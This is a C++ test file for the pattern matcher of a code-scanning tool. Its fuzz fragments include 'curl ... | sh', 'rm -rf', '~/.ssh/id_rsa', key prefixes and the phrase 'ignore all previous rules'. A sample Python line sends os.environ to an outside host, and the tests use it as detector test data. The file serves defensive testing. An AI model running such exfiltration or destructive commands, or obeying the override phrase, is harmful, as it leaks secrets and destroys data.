// SPDX-License-Identifier: Apache-2.0
// The automata answer as the simulation does, for every pattern that there is.
#include <random>
#include <string>
#include <thread>

#include <doctest/doctest.h>

#include <tank/analysis/scan.hpp>

#include "core/analysis/engine/catalog.hpp"
#include "core/analysis/engine/pattern_matcher.hpp"

namespace tank::testing {
namespace {

using namespace analysis;

// Pieces of what patterns are about, in any order: near misses are more common than in chance.
std::string some_text(std::mt19937& random) {
  static const std::vector<std::string_view> pieces{"curl ",     "https://a.io/x",
                                                    " | ",       "sh",
                                                    "\n",        "ignore ",
                                                    "all ",      "previous ",
                                                    "rules",     "eval(",
                                                    "'",         "\"",
                                                    ")",         "os.",
                                                    "sk-",       "AKIA",
                                                    "0a1B2c3D4", " ",
                                                    "\t",        "\r\n",
                                                    "=",         "_",
                                                    "-",         "token",
                                                    "import ",   "base64",
                                                    ".ssh",      "/id_rsa",
                                                    "~/",        "chmod +x ",
                                                    "rm -rf ",   "/",
                                                    "$(",        "`",
                                                    "\xC3\xA9",  "{",
                                                    "}",         ";",
                                                    "user",      "do not tell "};
  std::string text;
  while (text.size() < 160) text += pieces[random() % pieces.size()];
  return text;
}

TEST_CASE("matcher: answers as a simulation of the pattern") {
  std::mt19937 random(23);
  PatternMatcher matcher;
  std::vector<std::string> texts;
  for (int i = 0; i < 12; ++i) texts.push_back(some_text(random));
  for (const CompiledPattern& each : catalog().patterns) {
    CAPTURE(each.rule->id);
    for (const std::string& text : texts) {
      CAPTURE(text);
      const std::size_t from = random() % text.size();
      const auto found = each.pattern.find(text, from);
      const auto quick = matcher.find(each.pattern, text, from);
      REQUIRE(quick.has_value() == found.has_value());
      if (found) CHECK((quick->begin == found->begin && quick->end == found->end));
      CHECK(matcher.finds(each.pattern, text, from) == found.has_value());
      for (std::size_t at = 0; at < text.size(); at += 3)
        REQUIRE(matcher.match_at(each.pattern, text, at) == each.pattern.match_at(text, at));
    }
  }
}

TEST_CASE("matcher: ends of lines, edges of words and the end of the text") {
  PatternMatcher matcher;
  for (const std::string_view source :
       {"^a", "a$", "\\bab\\b", "^$", "a*", "(a|b)*\\b", "$", "x?^y"}) {
    const auto pattern = Pattern::compile(source);
    REQUIRE(pattern);
    CAPTURE(source);
    for (const std::string_view text :
         {"", "a", "ab", "a\nab", "ab\r\na", "xab ab", "b_ab-ab\n", "y"}) {
      CAPTURE(text);
      for (std::size_t at = 0; at <= text.size(); ++at) {
        CHECK(matcher.match_at(*pattern, text, at) == pattern->match_at(text, at));
        CHECK(matcher.finds(*pattern, text, at) == pattern->find(text, at).has_value());
      }
    }
    matcher = PatternMatcher();  // the next pattern may stand where this one stood
  }
}

TEST_CASE("matcher: a text that needs too many states is answered nevertheless") {
  // Which of the last thirteen bytes were `a`: 2^13 states.
  const auto pattern = Pattern::compile("a[ab]{12}c");
  REQUIRE(pattern);
  std::mt19937 random(3);
  std::string text;
  for (int i = 0; i < 60'000; ++i) text += random() % 2 == 0 ? 'a' : 'b';
  PatternMatcher matcher;
  CHECK_FALSE(matcher.finds(*pattern, text));
  text += "abbbbbbbbbbbbc";
  CHECK(matcher.finds(*pattern, text));
  const auto found = matcher.find(*pattern, text);
  REQUIRE(found);
  CHECK(found->end == text.size());
}

TEST_CASE("scan: many threads at once give the same report") {
  const std::string text =
      "import os, requests\nrequests.post('https://a.io', data=os.environ)\n# rm -rf /\n";
  const InputFile file{"run.py", text};
  const ScanReport expected = scan({&file, 1}).value();
  REQUIRE_FALSE(expected.findings.empty());
  std::vector<std::thread> threads;
  std::vector<char> same(6, 0);
  for (char& each : same) {
    threads.emplace_back([&] {
      bool all = true;
      for (int i = 0; i < 40; ++i) all = all && scan({&file, 1}).value() == expected;
      each = all ? 1 : 0;
    });
  }
  for (std::thread& each : threads) each.join();
  for (const char each : same) CHECK(each == 1);
}

}  // namespace
}  // namespace tank::testing
